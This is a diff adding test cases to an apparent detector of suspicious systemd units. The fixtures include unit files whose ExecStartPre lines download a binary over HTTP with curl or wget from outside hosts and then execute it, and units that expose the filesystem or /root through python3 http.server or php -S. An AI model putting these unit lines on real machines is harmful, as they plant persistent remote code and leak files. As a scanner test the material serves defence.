@@ -49,6 +49,23 @@ describe('units of systemd', () => {
 		['a wanted unit that lies elsewhere', { '/etc/systemd/system/multi-user.target.wants/x.service': { link: '/home/ann/x.service' }, '/home/ann/x.service': '[Service]\nExecStart=/tmp/x\n' }, ['low /etc/systemd/system/multi-user.target.wants/x.service', 'high /etc/systemd/system/multi-user.target.wants/x.service']],
 		['an environment from a temporary place', { '/etc/systemd/system/x.service': '[Service]\nEnvironmentFile=-/var/tmp/.env\nExecStart=/usr/sbin/sshd\n' }, ['high /etc/systemd/system/x.service']],
 		['a program that is gone', { '/etc/systemd/system/x.service': '[Service]\nExecStart=/usr/local/bin/x\n' }, ['low /etc/systemd/system/x.service']],
+		['fetched by one line, run by a later', { '/etc/systemd/system/x.service': '[Service]\nExecStartPre=-/usr/bin/curl -fso /usr/local/lib/netd http://203.0.113.9/k\nExecStartPre=-/bin/chmod 755 /usr/local/lib/netd\nExecStart=-/usr/local/lib/netd -d\n' }, ['high /etc/systemd/system/x.service']],
+		['the same by a name, without TLS', { '/etc/systemd/system/x.service': "[Service]\nExecStartPre=-/bin/sh -c 'wget -qO /usr/local/lib/netd http://cdn.example.net/k'\nExecStart=-/usr/bin/bash /usr/local/lib/netd\n" }, ['medium /etc/systemd/system/x.service']],
+		['what machines fetch at their first start', { '/etc/systemd/system/x.service': '[Service]\nExecStartPre=-/usr/bin/curl -fo /opt/bin/kubelet https://storage.example.org/kubelet\nExecStartPre=-/bin/chmod +x /opt/bin/kubelet\nExecStart=-/opt/bin/kubelet\n' }, ['low /etc/systemd/system/x.service']],
+		['what a unit fetches and does not run, or fetches of the house', {
+			'/etc/systemd/system/a.service': '[Service]\nExecStartPre=-/usr/bin/curl -fso /var/lib/app/list.json http://198.51.100.7/list.json\nExecStart=-/opt/app/serve /var/lib/app/list.json\n',
+			'/etc/systemd/system/b.service': '[Service]\nExecStartPre=-/usr/bin/wget -qO /opt/own/agent http://10.0.0.3/agent\nExecStart=-/opt/own/agent\n',
+			'/etc/systemd/system/c.service': '[Service]\nExecStart=-/opt/app/serve\nExecStartPost=-/usr/bin/curl -fsS http://203.0.113.9/ping\n',
+		}, []],
+		['the whole system as pages', { '/etc/systemd/system/x.service': '[Service]\nExecStart=-/usr/bin/python3 -m http.server 8000\n' }, ['high /etc/systemd/system/x.service']],
+		["root's files as pages", { '/etc/systemd/system/x.service': '[Service]\nWorkingDirectory=/root\nExecStart=-/usr/bin/php -S 0.0.0.0:80\n' }, ['high /etc/systemd/system/x.service']],
+		['pages, and what only this machine asks for', {
+			'/etc/systemd/system/a.service': '[Service]\nWorkingDirectory=/srv/www/docs\nExecStart=-/usr/bin/python3 -m http.server 8000\n',
+			'/etc/systemd/system/b.service': '[Service]\nExecStart=-/usr/bin/python3 -m http.server --bind 127.0.0.1\n',
+			'/etc/systemd/system/c.service': '[Service]\nExecStart=-/usr/bin/php -S 0.0.0.0:80 /srv/app/router.php\n',
+			'/etc/systemd/system/d.service.d/port.conf': '[Service]\nExecStart=\nExecStart=-/usr/bin/python3 -m http.server 80\n',
+			'/etc/systemd/system/e.service': '[Service]\nExecStart=-/usr/sbin/httpd -DFOREGROUND\n',
+		}, []],
 		['transient units', { '/run/systemd/transient/run-r1.service': '[Service]\nExecStart="/tmp/.x" "-d"\n' }, ['high /run/systemd/transient/run-r1.service']],
 	])('%s', (_name, machine, expected) => {
 		expect(units(machine)).toEqual(expected);
